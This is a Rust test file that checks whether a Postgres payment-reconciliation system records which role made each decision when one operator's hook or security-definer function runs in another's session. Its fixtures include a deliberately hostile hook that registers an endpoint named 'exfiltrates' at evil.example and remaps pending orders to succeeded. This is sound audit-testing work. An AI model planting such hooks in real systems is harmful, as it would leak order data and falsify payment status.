//! Who decided, where code of one operator runs in the session of another.

use anyhow::{Result, ensure};

use crate::scene::{Scene, run, text};

/// Proves that a decision is kept with the role that made it: a hook's owner, or the owner of a function, and not only whose session it was.
#[tokio::test]
async fn a_decision_has_the_name_of_who_made_it() -> Result<()> {
    let code = "
        create or replace function carrier.on_paid(order_number text, facts jsonb) returns void language plpgsql as $$ begin
            perform reconcile.resolve_order('BY-HOOK', 'failed', 'says the hook');
            perform reconcile.pause_provider('vendor', 'says the hook');
        end $$;
        create function carrier.decides() returns void language plpgsql security definer as
            $$ begin perform reconcile.resolve_order('BY-FUNCTION', 'failed', 'says the function'); end $$";
    let scene = Scene::open("hostile_deciding", code, "").await?;
    run(
        &scene.dba,
        "select reconcile.track_order(given, 'vendor') from unnest('{BY-HAND,BY-HOOK,BY-FUNCTION}'::text[]) as given;
         select reconcile.resolve_order('BY-HAND', 'succeeded', 'seen');
         select carrier.decides()",
    )
    .await?;
    for (number, by) in [
        ("BY-HAND", "postgres"),
        ("BY-HOOK", "carrier_owner, in a session of postgres"),
        ("BY-FUNCTION", "carrier_owner, in a session of postgres"),
    ] {
        let said = format!(
            "select changed_by from reconcile.order_history where order_number = '{number}'"
        );
        let said = text(&scene.dba, &said).await?.unwrap_or_default();
        ensure!(said == by, "{number}: {said:?}");
    }
    let paused = "select paused_by from reconcile.provider_health where name = 'vendor'";
    let paused = text(&scene.dba, paused).await?.unwrap_or_default();
    ensure!(
        paused == "carrier_owner, in a session of postgres",
        "{paused:?}"
    );
    Ok(())
}

/// Proves the same of what a hook does to providers and endpoints: their rows and `reconcile.decisions` have its owner, and whose session
/// it was.
#[tokio::test]
async fn a_provider_and_an_endpoint_have_the_name_of_who_changed_them() -> Result<()> {
    let code = "
        create or replace function carrier.on_paid(order_number text, facts jsonb) returns void language plpgsql as $$ begin
            perform reconcile.add_endpoint('exfiltrates', 'https://evil.example/x', 'X', array['succeeded']);
            perform reconcile.add_endpoint('gone', 'https://evil.example/y', 'X', timeout => '1 second');
            perform reconcile.remove_endpoint('gone');
            perform reconcile.pause_endpoint('exfiltrates', 'says the hook');
            perform reconcile.resume_endpoint('exfiltrates');
            perform reconcile.alter_provider('vendor', status_map => '{\"pending\": \"succeeded\"}');
            perform reconcile.resume_provider('vendor');
            perform reconcile.add_provider('another', 'https://v.example/{order_number}', '{\"paid\": \"succeeded\"}');
            perform reconcile.remove_provider('another');
        end $$";
    let scene = Scene::open("hostile_changing", code, "").await?;
    run(
        &scene.dba,
        "select reconcile.pause_provider('vendor', 'do not resume');
         select reconcile.track_order('A', 'by_function', created_at => now() - interval '1 hour');
         select * from reconcile_stale_orders(1000)",
    )
    .await?;
    let by = "carrier_owner, in a session of postgres";
    for (what, said) in [
        (
            "an endpoint",
            "select added_by from reconcile.endpoints where name = 'exfiltrates'",
        ),
        (
            "a version",
            "select changed_by from reconcile.provider_versions order by changed_at desc limit 1",
        ),
    ] {
        let said = text(&scene.dba, said).await?.unwrap_or_default();
        ensure!(said == by, "{what}: {said:?}");
    }
    let decided = "select string_agg(what || ' ' || coalesce(arguments ->> 'name', ''), ', ' order by declaration_id) from reconcile.decisions
        where declared_by = 'carrier_owner' and session_role = 'postgres'";
    let decided = text(&scene.dba, decided).await?.unwrap_or_default();
    ensure!(
        decided
            == "add_endpoint exfiltrates, add_endpoint gone, remove_endpoint gone, pause_endpoint exfiltrates, resume_endpoint exfiltrates, \
                alter_provider vendor, resume_provider vendor, add_provider another, remove_provider another",
        "{decided}"
    );
    let reader = scene.database.connect_as("carrier_owner").await?;
    run(&reader, "select * from reconcile.decisions").await?;
    Ok(())
}
